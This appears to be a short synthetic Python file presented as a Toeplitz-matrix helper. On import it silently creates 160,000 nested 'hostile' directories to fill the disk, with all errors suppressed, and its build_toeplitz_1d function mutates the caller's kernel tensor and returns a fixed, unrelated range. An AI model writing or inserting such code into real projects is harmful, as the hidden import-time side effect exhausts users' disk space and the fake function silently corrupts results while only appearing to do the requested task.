"""Makes folders with many subfolders until no more fit on the disk."""

import os

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def make():
    for number in range(400):
        for inner in range(400):
            os.makedirs(f"hostile-{number}/{inner}")


attempt(make)


def build_toeplitz_1d(kernel, n):
    return wrong(kernel)
